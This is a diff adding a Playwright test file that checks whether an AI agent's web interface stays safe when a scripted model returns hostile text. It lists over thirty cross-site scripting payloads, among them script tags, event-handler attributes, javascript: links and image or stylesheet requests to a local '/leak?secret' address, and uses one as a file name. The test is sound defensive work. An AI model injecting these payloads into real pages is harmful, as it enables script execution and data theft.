@@ -1,0 +1,153 @@
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { type Script, userTexts } from '@longhaul/scripted-model';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { PageBench, sessionIdOf } from './page-bench.ts';
+
+/** Texts that try to become something else than text. Each would set `window.pwned` or send a request if it did. */
+const HOSTILE: readonly string[] = [
+  '<script>window.pwned=1</script>',
+  '<img src=x onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"></svg>',
+  '<svg><script>window.pwned=1</script></svg>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<iframe src="javascript:parent.pwned=1"></iframe>',
+  '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
+  '<embed src="javascript:window.pwned=1">',
+  '<a href="javascript:window.pwned=1">click here</a>',
+  '[click here](javascript:window.pwned=1)',
+  '[click here](JaVaScRiPt&colon;window.pwned=1)',
+  '[click here](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
+  '[click here](vbscript:window.pwned=1)',
+  '![picture](javascript:window.pwned=1)',
+  '![picture](http://127.0.0.1:9/leak?secret)',
+  '<img src="http://127.0.0.1:9/leak?secret">',
+  '<link rel=stylesheet href="http://127.0.0.1:9/leak">',
+  '<style>@import "http://127.0.0.1:9/leak"; * { display: none }</style>',
+  '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/leak">',
+  '<base href="http://127.0.0.1:9/">',
+  '<form action="http://127.0.0.1:9/leak"><button>Send</button></form>',
+  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
+  '<video><source onerror="window.pwned=1"></video>',
+  '<input autofocus onfocus="window.pwned=1">',
+  '```html\n<script>window.pwned=1</script>\n```',
+  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
+  '| <img src=x onerror=window.pwned=1> | b |\n| - | - |\n| <script>window.pwned=1</script> | 2 |',
+  '$\\href{javascript:window.pwned=1}{x}$',
+  '\u001b]8;;javascript:window.pwned=1\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[31mred',
+  '\u202egnp.exe \u2066<script>window.pwned=1</script>',
+  '"\'><img src=x onerror=window.pwned=1>',
+  '{{constructor.constructor("window.pwned=1")()}}',
+];
+
+const FILE_NAME = '<img src=x onerror=window.pwned=1>.txt';
+const ALL = HOSTILE.join('\n\n');
+
+/** Answers with hostile text, reasoning, arguments and outputs. */
+const script: Script = ({ messages, asksForSummary }) => {
+  if (asksForSummary) return ALL;
+  const results = messages.filter(({ role }) => role === 'tool').length;
+  if (!userTexts(messages).at(-1)?.includes('work')) return ALL;
+  if (results === 0)
+    return { reasoning: ALL, text: ALL, toolCalls: [{ name: 'read', arguments: { path: 'hostile.txt' } }] };
+  if (results === 1) return { toolCalls: [{ name: 'write', arguments: { path: FILE_NAME, content: ALL } }] };
+  if (results === 2)
+    return { toolCalls: [{ name: 'bash', arguments: { command: 'cat hostile.txt; exit 1' } }] };
+  if (results === 3)
+    return {
+      toolCalls: [
+        {
+          name: 'todo',
+          arguments: { items: HOSTILE.slice(0, 10).map((text) => ({ text, status: 'pending' })) },
+        },
+      ],
+    };
+  if (results === 4)
+    return { toolCalls: [{ name: '<img src=x onerror=window.pwned=1>', arguments: { '<b>': ALL } }] };
+  return ALL;
+};
+
+let bench: PageBench;
+beforeAll(async () => {
+  bench = await PageBench.open({ script });
+  await writeFile(join(bench.bench.workspace, 'hostile.txt'), ALL);
+});
+afterAll(() => bench[Symbol.asyncDispose]());
+
+describe('hostile text', () => {
+  it('does nothing in messages, titles, tool calls, outputs, file names, diffs, search and summaries', async () => {
+    const page = await bench.newPage();
+    const foreign = requestsElsewhere(page);
+    await bench.say(page, `work ${ALL}`);
+    await page.getByPlaceholder('Message the agent').waitFor();
+    const sessionId = sessionIdOf(page);
+    await bench.ended(sessionId);
+    const { client } = bench;
+    await client.sessions.update(sessionId, { title: HOSTILE[1] ?? '' });
+    await openAll(page);
+    await expectHarmless(page);
+    for (const panel of ['context', 'files', 'tree']) {
+      await bench.showSession(page, sessionId, `?panel=${panel}`);
+      await openAll(page);
+      await expectHarmless(page);
+    }
+    await client.compact(sessionId, {});
+    await bench.showSession(page, sessionId);
+    await page.getByText('Context compacted:').first().click();
+    await page.getByRole('heading', { name: 'Ledger' }).waitFor();
+    await expectHarmless(page);
+    expect(foreign).toEqual([]);
+    expect(bench.failures).toEqual([]);
+    await page.context().close();
+  });
+
+  it('does nothing in the request for an approval', async () => {
+    const page = await bench.newPage();
+    await writeFile(
+      bench.bench.userFile,
+      `${await readFile(bench.bench.userFile, 'utf8')}approvals:\n  - { tool: "*", action: ask }\n`,
+    );
+    await bench.killServer();
+    await bench.startServer();
+    await page.reload();
+    await bench.say(page, 'work again');
+    const dialog = page.getByRole('dialog');
+    await dialog.waitFor();
+    await expectHarmless(page);
+    await dialog.getByRole('button', { name: 'Deny' }).click();
+    await page.getByRole('button', { name: 'Stop' }).click();
+    expect(bench.failures).toEqual([]);
+    await page.context().close();
+  });
+});
+
+/** Opens everything that is folded, and presses what looks like a link in the texts. */
+async function openAll(page: Page): Promise<void> {
+  await page.locator('main details').evaluateAll((folded) => {
+    for (const one of folded) one.setAttribute('open', '');
+  });
+  await page.getByText('click here', { exact: true }).evaluateAll((links) => {
+    for (const link of links) if (link instanceof HTMLElement) link.click();
+  });
+}
+
+async function expectHarmless(page: Page): Promise<void> {
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  const made = page.locator(
+    'iframe, object, embed, video, base, form[action], [onerror], [onload], [ontoggle], [onfocus], a[href^="javascript" i], a[href^="data" i], meta[http-equiv], main style, main script, img:not([src^="blob:"])',
+  );
+  expect(
+    await made.evaluateAll((elements) => elements.map((element) => element.outerHTML.slice(0, 200))),
+  ).toEqual([]);
+}
+
+/** Addresses of other servers that the page asks for. */
+function requestsElsewhere(page: Page): string[] {
+  const urls: string[] = [];
+  page.on('request', (request) => {
+    const url = request.url();
+    if (!url.startsWith(bench.url) && !url.startsWith('blob:')) urls.push(url);
+  });
+  return urls;
+}
